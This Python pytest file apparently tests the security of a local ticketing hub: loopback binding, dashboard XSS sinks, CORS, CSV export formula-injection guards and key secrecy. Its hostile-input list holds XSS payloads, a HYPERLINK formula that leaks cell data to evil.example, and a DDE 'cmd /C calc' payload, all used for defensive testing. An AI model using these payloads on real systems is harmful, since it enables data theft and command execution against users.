"""What a careful outsider checks: loopback by default, an offline dashboard that cannot be
script-injected, keys never echoed or stored in clear, a CSV that spreadsheets will not run."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from contractkit import Hub, check_envelope, enrolled, seed_event

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
]
# Control characters (a leading tab, NUL, ESC) never get in: refused with a 400 naming the
# field (issue 11), so they cannot reach an export either.
CONTROL = ["\t=1+1", "Ada\x00", "\x1b[2J"]


def _listening(port: int) -> set[str]:
    """Local addresses (hex, as /proc shows them) with a TCP listener on `port`."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        if not Path(table).exists():
            continue
        for line in Path(table).read_text().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            address, hex_port = local.rsplit(":", 1)
            if state == "0A" and int(hex_port, 16) == port:  # 0A = LISTEN
                found.add(address)
    return found


def test_serve_binds_loopback_only_by_default(hub):
    assert hub.url.startswith("http://127.0.0.1:")
    assert _listening(hub.port) == {"0100007F"}  # 127.0.0.1, nothing on 0.0.0.0 or ::


@pytest.mark.parametrize("path", ["/", "/dashboard"])
def test_the_dashboard_loads_nothing_from_elsewhere(hub, path):
    response = httpx.get(hub.url + path)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/html")
    page = response.text
    for url in re.findall(r"(?:https?:)?//[^\s\"'<>)]+", page):
        host = urlsplit(url if url.startswith("http") else "http:" + url).hostname
        assert host in (None, "127.0.0.1", "localhost"), f"external URL in the page: {url}"
    assert not re.search(r"<(script|link|img|iframe)[^>]+(src|href)=[\"']?(https?:)?//", page)
    csp = response.headers.get("Content-Security-Policy", "")
    assert "default-src 'none'" in csp or "default-src 'self'" in csp, csp
    assert "unsafe-inline" not in csp.split("script-src", 1)[-1].split(";")[0]


def test_the_dashboard_never_renders_data_as_html(hub):
    """Attendee and gate names are attacker-controlled; the page must write them as text."""
    page = httpx.get(hub.url + "/").text
    script = "".join(re.findall(r"<script[^>]*>(.*?)</script>", page, re.S))
    # ... and the modules it loads from the hub (ES module imports: "./name.js").
    pending = re.findall(r'<script[^>]+src="(/[^"]+)"', page)
    seen: set[str] = set()
    while pending:
        path = pending.pop()
        if path in seen:
            continue
        seen.add(path)
        source = httpx.get(hub.url + path).text
        script += source
        base = path.rsplit("/", 1)[0]
        pending += [f"{base}/{name}" for name in re.findall(r'from "\./([\w-]+\.js)"', source)]
    assert script, "the dashboard has no script to review"
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval("):
        assert sink not in script, sink
    assert "new Function" not in script


def test_hostile_names_come_back_as_json_data_only(api, event):
    for name in HOSTILE[:3]:
        response = api.post(
            f"/v1/events/{event['id']}/tickets", json={"tierName": "VIP", "attendeeName": name}
        )
        assert response.status_code == 201
        assert response.headers["content-type"].startswith("application/json")
        assert response.json()["data"][0]["attendeeName"] == name


def test_cors_is_not_open_to_any_origin_with_credentials(hub, org_key):
    origin = {"Origin": "http://evil.example"}
    preflight = httpx.options(
        hub.url + "/v1/events",
        headers={
            **origin,
            "Access-Control-Request-Method": "POST",
            "Access-Control-Request-Headers": "authorization",
        },
    )
    simple = httpx.get(
        hub.url + "/v1/events", headers={**origin, "Authorization": f"Bearer {org_key}"}
    )
    for response in (preflight, simple):
        allowed = response.headers.get("Access-Control-Allow-Origin")
        assert allowed in (None, hub.url), allowed
        if allowed == "*":
            assert response.headers.get("Access-Control-Allow-Credentials") != "true"


def test_the_csv_export_defuses_spreadsheet_formulas(api, event):
    for index, name in enumerate(HOSTILE):
        ticket = api.post(
            f"/v1/events/{event['id']}/tickets", json={"tierName": "General", "attendeeName": name}
        ).json()["data"][0]
        scanned = api.post(
            "/v1/checkin/scan",
            json={
                "qrPayload": ticket["qrPayload"],
                "eventId": event["id"],
                "scannedBy": HOSTILE[(index + 3) % len(HOSTILE)],
            },
        )
        assert scanned.status_code == 200 and scanned.json()["success"] is True
    for name in CONTROL:
        refused = api.post(
            f"/v1/events/{event['id']}/tickets", json={"tierName": "General", "attendeeName": name}
        )
        assert check_envelope(refused, 400, "validation_error")
    export = api.get(f"/v1/events/{event['id']}/export.csv")
    assert export.status_code == 200
    assert export.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(export.text)))
    assert len(rows) >= 1 + len(HOSTILE)
    cells = [cell for row in rows[1:] for cell in row]
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    for name in HOSTILE[3:]:  # still readable: the guard prefixes, it does not drop
        assert any(cell.endswith(name) for cell in cells), name


def test_no_stack_trace_reaches_a_client(api):
    for raw in (b"[" * 100_000 + b"]" * 100_000, b'{"title": "\\ud800", "tiers": 1e999}'):
        for path in ("/v1/events", "/v1/checkin/scan", "/v1/checkin/batch", "/v1/webhooks"):
            response = api.post(path, content=raw, headers={"Content-Type": "application/json"})
            check_envelope(response, 400, "validation_error")


def test_keys_are_never_logged_nor_stored_in_clear(tmp_path):
    hub = Hub(tmp_path / "node", "--access-log")
    try:
        organiser = hub.key
        assert organiser and organiser.startswith("tk_")
        lookalike = organiser[:-4] + "AAAA"
        with hub.client(organiser) as api:
            event = api.post("/v1/events", json=seed_event()).json()
            api.post(f"/v1/events/{event['id']}/publish")
            gate = api.post(
                "/v1/devices", json={"name": "L1", "eventId": event["id"], "gate": "g1"}
            ).json()
            gate = enrolled(hub, gate)
        with hub.client(lookalike) as stranger:
            assert stranger.get("/v1/events").status_code == 401
        with hub.client(gate["key"]) as gate_client:
            assert gate_client.get("/v1/events").status_code == 200
    finally:
        assert hub.stop() == 0
    # Printed once at the first start, and alone on stdout: the access log is on stderr.
    assert hub.stdout.splitlines() == [organiser]
    for secret in (organiser, gate["key"], lookalike):
        assert secret not in hub.stderr
        stored = b"".join(p.read_bytes() for p in (tmp_path / "node").rglob("*") if p.is_file())
        assert secret.encode() not in stored
        assert re.sub(r"^tk_[a-z]+_", "", secret).encode() not in stored  # nor its body
    assert "GET /v1/events" in hub.stderr  # the access log ran and still showed no key
